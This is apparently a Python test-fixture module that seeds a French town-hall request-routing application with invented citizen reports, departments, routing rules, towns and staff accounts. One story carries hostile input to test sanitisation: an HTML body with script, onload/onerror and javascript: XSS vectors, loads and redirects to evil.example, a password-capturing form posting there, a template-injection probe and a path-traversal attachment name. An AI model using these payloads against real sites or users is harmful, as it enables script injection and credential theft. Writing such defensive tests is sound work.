"""A small town hall's day, invented: enough of everything for the desk's pages."""

import hashlib
from collections.abc import Iterator
from dataclasses import dataclass, replace
from datetime import UTC, datetime, timedelta
from email.message import EmailMessage
from pathlib import Path

from sqlalchemy.orm import Session

from domain.decision import Basis, Decision, ForReview, Orientation, Reason, Routed
from domain.department import Confidentiality, Department, DepartmentKind
from domain.draft import Attachment, Draft, Flag, Kind, Remark, Requester
from domain.evidence import Candidate, Classification, Evidence, Finding, Leaf, Part, Span
from domain.ids import DepartmentCode, RequestId, RuleId, SectorName, Sha256, SubjectCode, TownId
from domain.inbound import Channel, Envelope, Inbound, Mailbox
from domain.place import NO_PLACE, Place, Places, PlaceStatus, RoadOwner
from domain.request import Status
from domain.rights import Role
from domain.ruleset import Alert, AllOf, CameBy, Effect, HasWords, Level, Nature, Not, Precision, Rule, RuleSet, Subject
from domain.town import Town
from flows.accounts import hashed
from ingest.danger import danger_of
from store import agents, drafts, history, inbounds, requests, towns
from store.agents import NewAgent
from store.blobs import Blobs
from store.engine import Database
from store.history import HistoryLine
from store.requests import NewRequest

VALOGNES = TownId("valognes")
BREVILLE = TownId("breville")
PASSWORD = "un mot de passe pour les essais"
NOW = datetime(2026, 11, 25, 9, 30, tzinfo=UTC)
HOSTILE_HTML = """<html><head><title>x</title><meta http-equiv="refresh" content="0;url=http://evil.example/"><base href="http://evil.example/">
<link rel="stylesheet" href="http://evil.example/a.css"><style>body{background:url(http://evil.example/b.png)}</style></head>
<body onload="top.attacked=1"><p style="background:url(http://evil.example/c.png)">Bonjour, le lampadaire <b>clignote</b>.</p>
<script>top.attacked=1;parent.document.title="pris"</script><img src="http://evil.example/pixel.gif" onerror="top.attacked=1">
<svg onload="top.attacked=1"><script>top.attacked=1</script></svg><iframe src="http://evil.example/"></iframe>
<form action="http://evil.example/vol"><input name="motdepasse"><button>Valider</button></form>
<a href="javascript:top.attacked=1">ici</a> <a href="http://evil.example/piege" target="_top">là</a>
<object data="http://evil.example/x.swf"></object><video src="http://evil.example/v.mp4" autoplay></video></body></html>"""


def _department(code: str, label: str, kind: DepartmentKind = DepartmentKind.INTERNAL) -> Department:
    secret = Confidentiality.SOCIAL if code == "CCAS" else Confidentiality.NORMAL
    return Department(code=DepartmentCode(code), label=label, email=None, phone=None, kind=kind, confidentiality=secret)


def _subject(code: str, label: str, theme: str, department: str, priority: int) -> Subject:
    return Subject(
        code=SubjectCode(code),
        label=label,
        theme=theme,
        nature=Nature.REPORT,
        regime="signalement",
        priority=priority,
        target="5 jo",
        department=DepartmentCode(department),
        copies=(),
        confidentiality=Confidentiality.SOCIAL if department == "CCAS" else Confidentiality.NORMAL,
        vocabulary=(),
    )


SUBJECTS = (
    _subject("VOI-01", "Nid-de-poule, chaussée dégradée", "Voirie", "VOI", 2),
    _subject("VOI-04", "Panneau de signalisation abîmé ou manquant", "Voirie", "VOI", 2),
    _subject("ECL-01", "Lampadaire en panne", "Éclairage public", "ECL", 3),
    _subject("ECL-04", "Câble ou candélabre dangereux", "Éclairage public", "ECL", 1),
    _subject("PRO-02", "Dépôt sauvage", "Propreté", "PRO", 3),
    _subject("PRO-03", "Déjections canines", "Propreté", "PRO", 4),
    _subject("PM-03", "Bruits de voisinage", "Tranquillité publique", "PM", 3),
    _subject("EV-04", "Jeu d’enfants cassé ou dangereux", "Espaces verts", "EV", 2),
    _subject("EDU-02", "Cantine : inscription, facture", "Éducation", "EDU", 3),
    _subject("SOC-01", "Aide sociale, logement", "Action sociale", "CCAS", 3),
    _subject("AUT-00", "Autre, non classé", "Autre", "AG", 3),
)
DEPARTMENTS = (
    _department("VOI", "Services techniques – voirie"),
    _department("ECL", "Éclairage public"),
    _department("PRO", "Propreté"),
    _department("PM", "Police municipale"),
    _department("EV", "Espaces verts"),
    _department("EDU", "Éducation – périscolaire"),
    _department("CCAS", "Action sociale (CCAS)"),
    _department("AG", "Affaires générales – accueil"),
    _department("X-ENE", "Enedis", DepartmentKind.EXTERNAL),
    _department("X-DEP", "Département", DepartmentKind.EXTERNAL),
)


def _rule(code: str, name: str, *words: str) -> Rule:
    return Rule(
        id=RuleId(code),
        name=name,
        level=Level.SAFETY,
        precision=Precision.NONE,
        priority=1,
        condition=AllOf(all_of=(HasWords(words=words), Not(negated=CameBy(channels=(Channel.FAX,))))),
        effect=Effect(),
    )


RULES = (
    _rule("R1", "Mots de danger : astreinte", "câble", "étincelles"),
    _rule("R12", "Panneau de priorité couché : urgent", "stop", "cédez-le-passage"),
    _rule("R2", "Route départementale : au Département", "départementale"),
)


def town(town_id: TownId, name: str, zone: str = "Europe/Paris") -> Town:
    """Return a town."""
    return Town(
        id=town_id,
        name=name,
        insee="50615",
        postcode="50700",
        timezone=zone,
        address=("Place de la Mairie",),
        email=f"mairie@{town_id}.example",
        phone="+33261910010",
        fax=None,
        site=None,
        hours=(),
        holidays="FR",
        court=None,
    )


@dataclass(frozen=True, slots=True, kw_only=True)
class Story:
    """A message and what became of it, told shortly; evidence is found by the words between bars: ``|nid de poule|``."""

    subject: str
    department: str
    heading: str
    text: str
    name: str | None
    minutes: int
    place: Place = NO_PLACE
    priority: int = 3
    confidence: float = 0.86
    reasons: tuple[Reason, ...] = ()
    flags: tuple[Flag, ...] = ()
    channel: Channel = Channel.EMAIL
    rule: str | None = None
    quote: str | None = None
    alternative: str | None = None
    html: str | None = None
    attachments: tuple[tuple[str, str, bytes], ...] = ()
    remarks: tuple[Remark, ...] = ()
    confidentiality: Confidentiality = Confidentiality.NORMAL
    part: str | None = None
    """The request's own part of the text, where the message holds several."""


def _street(text: str, street: str, number: str | None = None, sector: str = "Centre-ville") -> Place:
    return Place(
        status=PlaceStatus.EXACT if number else PlaceStatus.STREET,
        text=text,
        number=number,
        street=street,
        sector=SectorName(sector),
        owner=RoadOwner.TOWN,
        score=0.97 if number else 0.88,
    )


STORIES = (
    Story(
        subject="ECL-04",
        department="ECL",
        heading="URGENT cable electrique par terre",
        text="Bonsoir,\n\nUn |câble électrique| est tombé par terre |rue des Religieuses|, devant le 14. Il fait des étincelles et des "
        "enfants passent par là pour rentrer de l’école.\n\n"
        "Merci d’envoyer quelqu’un tout de suite, j’ai mis une poubelle devant en attendant.",
        name="DELISLE Marine",
        minutes=8,
        place=_street("rue des Religieuses, devant le 14", "Rue des Religieuses", "14"),
        priority=1,
        confidence=0.91,
        reasons=(Reason.DANGER,),
        flags=(Flag.DANGER, Flag.THIRD_PARTY),
        rule="R1",
        quote="étincelles",
        attachments=(("photo rue.png", "image/png", b"\x89PNG\r\n\x1a\n" + bytes(2400)),),
    ),
    Story(
        subject="VOI-04",
        department="VOI",
        heading="deux choses",
        text="Bonjour,\n1) le |panneau| stop au bout de la |rue Carnot| est couché depuis samedi\n2) et toujours pas de réponse pour "
        "la cantine de ma fille (facture de mars)\n\nCordialement",
        name="HAMON Pierre",
        minutes=31,
        place=_street("rue Carnot", "Rue Carnot"),
        priority=2,
        confidence=0.78,
        reasons=(Reason.SEVERAL_REQUESTS,),
        flags=(Flag.MULTI,),
        rule="R12",
        quote="stop",
        part="1) le panneau stop au bout de la rue Carnot est couché depuis samedi",
    ),
    Story(
        subject="EV-04",
        department="EV",
        heading="TR: jeux du square",
        text="les |jeux| du |square| sont cassés, une vis dépasse, mon petit s’est coupé",
        name="MARIE Odile",
        minutes=55,
        place=Place(status=PlaceStatus.UNMATCHED, text="le square", score=0.41),
        priority=2,
        confidence=0.74,
        reasons=(Reason.PLACE_UNMATCHED,),
    ),
    Story(
        subject="PM-03",
        department="PM",
        heading="Chien qui aboie",
        text="Le |chien| du voisin |aboie| toute la nuit au |18 rue du Train-Renard|. C’est la troisième fois que j’écris.",
        name="DUVAL Alain",
        minutes=74,
        place=_street("18 rue du Train-Renard", "Rue du Train-Renard", "18", "Gare"),
        confidence=0.48,
        reasons=(Reason.LOW_CONFIDENCE, Reason.UNKNOWN_REQUEST),
    ),
    Story(
        subject="PRO-02",
        department="PRO",
        heading="Encombrants",
        text="Des |encombrants| ont été laissés derrière l’abribus, |rue Henri-Cornat|. Matelas, frigo, pots de peinture.",
        name="LEROUX Fanny",
        minutes=102,
        place=_street("rue Henri-Cornat", "Rue Henri-Cornat", None, "Gare"),
        confidence=0.55,
        reasons=(Reason.TIE,),
        alternative="VOI-01",
    ),
    Story(
        subject="SOC-01",
        department="CCAS",
        heading="Aide pour mon loyer",
        text="Je n’arrive plus à payer mon |loyer| depuis que je suis seule.",
        name="MARTEL Jeanne",
        minutes=131,
        confidence=0.83,
        reasons=(Reason.CONFIDENTIAL,),
        flags=(Flag.CONFIDENTIAL,),
        confidentiality=Confidentiality.SOCIAL,
    ),
    Story(
        subject="ECL-01",
        department="ECL",
        heading="lampadaire <b>qui</b> clignote <script>alert(1)</script>",
        text="Bonjour, le |lampadaire| clignote. <img src=x onerror=alert(2)> {{ 7*7 }}",
        name='PIÈGE "Jean" <script>alert(3)</script>',
        minutes=160,
        confidence=0.71,
        reasons=(Reason.PLACE_MISSING,),
        html=HOSTILE_HTML,
        attachments=(("../../<script>.html", "text/html", b"<script>alert(4)</script>"),),
    ),
    Story(
        subject="AUT-00",
        department="AG",
        heading="Question about the market",
        text="Hello, we are visiting in May. On which days is there a market, and can we park a caravan nearby?",
        name="HUGHES Martin",
        minutes=205,
        priority=4,
        confidence=0.12,
        reasons=(Reason.NOTHING_MATCHED, Reason.LANGUAGE),
        flags=(Flag.LANGUAGE,),
        remarks=(Remark.UNKNOWN_CHARSET,),
    ),
    Story(
        subject="VOI-01",
        department="VOI",
        heading="trou",
        text="Bonjour,\n\ngros |nid de poule| |rue de Poterie devant le 22|, j’ai failli tomber à vélo.\n\nCordialement",
        name="LEBRUN Sylvie",
        minutes=15,
        place=_street("rue de Poterie devant le 22", "Rue de Poterie", "22"),
        priority=2,
        confidence=0.93,
    ),
    Story(
        subject="PRO-03",
        department="PRO",
        heading="crottes de chien",
        text="Je vous écris pour les |crottes de chien| |rue du Palais-de-Justice|, c’est intenable.",
        name="LEPETIT Germaine",
        minutes=140,
        place=_street("rue du Palais-de-Justice", "Rue du Palais-de-Justice"),
        priority=4,
        confidence=0.88,
    ),
    Story(
        subject="EDU-02",
        department="EDU",
        heading="Inscription à la cantine en janvier",
        text="Bonjour, comment inscrire mon fils à la |cantine| à partir de janvier ? Merci.",
        name="BENALI Nora",
        minutes=1500,
        confidence=0.9,
    ),
    Story(
        subject="ECL-01",
        department="ECL",
        heading="Lampadaire éteint depuis une semaine",
        text="Le |lampadaire| devant le |4 boulevard Division-Leclerc| est éteint.",
        name=None,
        minutes=2900,
        place=_street("4 boulevard Division-Leclerc", "Boulevard Division-Leclerc", "4"),
        confidence=0.95,
    ),
)


def _plain(text: str) -> tuple[str, tuple[tuple[int, int], ...]]:
    """Return the text without its bars and where the words between them stand."""
    parts = text.split("|")
    found, position = [], 0
    for place, part in enumerate(parts):
        if place % 2:
            found.append((position, position + len(part)))
        position += len(part)
    return "".join(parts), tuple(found)


def _mail(story: Story, text: str, received_at: datetime) -> bytes:
    message = EmailMessage()
    message["From"] = "expediteur@courriel.example"
    message["To"] = "mairie@valognes.example"
    message["Subject"] = story.heading
    message["Message-ID"] = f"<{hashlib.sha256(text.encode()).hexdigest()[:12]}@courriel.example>"
    message["Date"] = received_at
    message.set_content(text)
    if story.html:
        message.add_alternative(story.html, subtype="html")
    for filename, media_type, content in story.attachments:
        main, _, sub = media_type.partition("/")
        message.add_attachment(content, maintype=main, subtype=sub, filename=filename)
    return message.as_bytes()


def _attachments(story: Story) -> Iterator[Attachment]:
    # Depth-first part numbers, as the reader gives them: the container is 0, the body follows with its two versions where it has both.
    first = 4 if story.html else 2
    for part, (filename, media_type, content) in enumerate(story.attachments, start=first):
        sha256 = Sha256(hashlib.sha256(content).hexdigest())
        danger = danger_of(content, filename, media_type)
        yield Attachment(part=part, filename=filename, media_type=media_type, size=len(content), sha256=sha256, danger=danger)


def _classification(story: Story, text: str, spans: tuple[tuple[int, int], ...]) -> Classification:
    subject = SubjectCode(story.subject)
    evidence = tuple(
        Evidence(
            rule=RuleId("vocabulary"),
            answer=subject,
            weight=0.8,
            ceiling=1.0,
            quote=text[start:end],
            where=Span(part=Part.BODY, start=start, end=end),
        )
        for start, end in spans[:1]
    )
    others = (Candidate(answer=SubjectCode(story.alternative), score=0.47, evidence=()),) if story.alternative else ()
    seen = tuple(
        Evidence(
            rule=RuleId("gazetteer"),
            answer=story.place,
            weight=0.97,
            ceiling=1.0,
            quote=text[start:end],
            where=Span(part=Part.BODY, start=start, end=end),
        )
        for start, end in spans[1:]
    )
    places = (Candidate(answer=story.place, score=story.place.score, evidence=seen),) if story.place != NO_PLACE else ()
    return Classification(
        subjects=(Candidate(answer=subject, score=story.confidence, evidence=evidence), *others),
        places=places,
        findings=tuple(_finding(rule, story, text) for rule in RULES),
    )


def _finding(rule: Rule, story: Story, text: str) -> Finding:
    holds = rule.id == story.rule and story.quote is not None
    where = (
        Span(part=Part.BODY, start=text.index(story.quote), end=text.index(story.quote) + len(story.quote))
        if holds and story.quote
        else None
    )
    words = next(", ".join(part.words) for part in getattr(rule.condition, "all_of", ()) if isinstance(part, HasWords))
    leaf = Leaf(condition="mots", operand=words, holds=holds, quote=story.quote if holds else None, where=where)
    by_fax = Leaf(condition="canal", operand="fax", holds=False, quote="email", where=Span(part=Part.SETTING, start=0, end=0))
    return Finding(rule=rule.id, holds=holds, leaves=(leaf, by_fax))


def _decision(story: Story) -> Decision:
    orientation = Orientation(
        subject=SubjectCode(story.subject),
        department=DepartmentCode(story.department),
        copies=(DepartmentCode("X-ENE"),) if story.rule == "R1" else (),
        priority=story.priority,
        confidence=story.confidence,
        flags=story.flags,
        place=story.place,
        rule=RuleId(story.rule or f"R0-{story.department}"),
        ruleset=1,
        confidentiality=story.confidentiality,
        target="4 h" if story.priority == 1 else "5 jo",
        alert=Alert.ALWAYS if story.priority == 1 else Alert.NONE,
        notices=("Éloignez-vous et appelez le 18 ou le 112.",) if story.priority == 1 else (),
    )
    if not story.reasons:
        return Routed(orientation=orientation)
    alternatives = (SubjectCode(story.alternative),) if story.alternative else ()
    return ForReview(orientation=orientation, reasons=story.reasons, alternatives=alternatives)


def _facts(decision: Decision) -> dict[str, object]:
    orientation = decision.orientation
    return {"inbound": 1, "rule": orientation.rule, "ruleset": 1, "confidence": orientation.confidence, "reasons": []}


def keep(session: Session, blobs: Blobs, town_id: TownId, story: Story, now: datetime = NOW) -> RequestId:
    """Write a story as the flows would."""
    text, spans = _plain(story.text)
    received_at = now - timedelta(minutes=story.minutes)
    raw = _mail(story, text, received_at)
    sha256 = blobs.put(raw)
    inbound = Inbound(
        town=town_id,
        channel=story.channel,
        source_id=None,
        sha256=sha256,
        size=len(raw),
        content_key=Sha256(hashlib.sha256(raw + town_id.encode() + str(story.minutes).encode()).hexdigest()),
        received_at=received_at,
        mailbox=f"mairie@{town_id}.example",
        envelope=Envelope(sender="expediteur@courriel.example"),
    )
    inbound_id, _ = inbounds.add(session, inbound)
    requester = Requester(
        name=story.name,
        email="expediteur@courriel.example",
        phone="+33639981204" if story.name else None,
        address="14 rue du Chemin-Vert 50700 Valognes",
    )
    draft = Draft(
        channel=story.channel,
        kind=Kind.REQUEST,
        requester=requester,
        heading=story.heading,
        text=text,
        attachments=tuple(_attachments(story)),
        remarks=story.remarks,
    )
    (draft_id,) = drafts.add(session, inbound_id, town_id, (draft,), received_at)
    decision = _decision(story)
    new = NewRequest(
        town=town_id,
        draft_id=draft_id,
        part=1,
        status=Status.REVIEW,
        channel=story.channel,
        received_at=received_at,
        heading=story.heading,
        details=story.part or text,
        offset=text.index(story.part) if story.part else 0,
        requester=requester,
        decision=decision,
        classification=_classification(story, text, spans),
        basis=Basis(ruleset=decision.orientation.ruleset, places=1, learned=0, release="0.1.0"),
        created_at=received_at,
    )
    request = requests.add(session, new)
    history.append(session, town_id, request, HistoryLine(at=received_at, actor="routing", action="created", details=_facts(decision)))
    if isinstance(decision, Routed):
        given = requests.number(session, request, received_at.year)
        line = HistoryLine(at=received_at + timedelta(seconds=1), actor="routing", action="numbered", details={"number": str(given)})
        history.append(session, town_id, request, line)
    return request


def keep_towns(session: Session) -> None:
    """Write two towns with the same rule set."""
    for known in (town(VALOGNES, "Valognes"), town(BREVILLE, "Bréville-sur-Mer", "Pacific/Noumea")):
        ruleset = RuleSet(town=known.id, number=0, subjects=SUBJECTS, departments=DEPARTMENTS, rules=RULES)
        places = Places(town_name=known.name, postcode=known.postcode)
        mailboxes = (Mailbox(address=f"mairie@{known.id}.example", town=known.id, name="Mairie"),)
        towns.save_town(session, known, ruleset, places, mailboxes, NOW)


PASSWORD_HASH = hashed(PASSWORD)


RECEPTION = frozenset({Role.RECEPTION, Role.REGULATOR})
"""What who receives people in a small town is: no department has members."""


def keep_agents(session: Session) -> None:
    """Write an administrator of the installation, a reception agent of each town, and one who must change his password."""
    for login, name, roles, town_id in (
        ("admin", "Administration", RECEPTION | {Role.ADMIN}, None),
        ("claire", "Claire Vasseur", RECEPTION, VALOGNES),
        ("lea", "Léa Moreau", RECEPTION, BREVILLE),
    ):
        new = NewAgent(town=town_id, login=login, name=name, roles=roles, password_hash=PASSWORD_HASH, must_change=False)
        agents.add(session, new, NOW)
    fresh = NewAgent(
        town=VALOGNES,
        login="nouveau",
        name="Noé Petit",
        roles=RECEPTION,
        password_hash=PASSWORD_HASH,
        must_change=True,
    )
    agents.add(session, fresh, NOW)


def keep_all(database: Database, originals: Path, now: datetime = NOW) -> dict[str, RequestId]:
    """Fill an empty installation; return the ids of Valognes' requests by heading, and one of Bréville's as ``breville``."""
    blobs = Blobs(originals)
    with database.write() as session:
        keep_towns(session)
        keep_agents(session)
        kept = {story.heading: keep(session, blobs, VALOGNES, story, now) for story in reversed(STORIES)}
        kept["breville"] = keep(session, blobs, BREVILLE, replace(STORIES[8], heading="secret de Bréville"), now)
    return kept
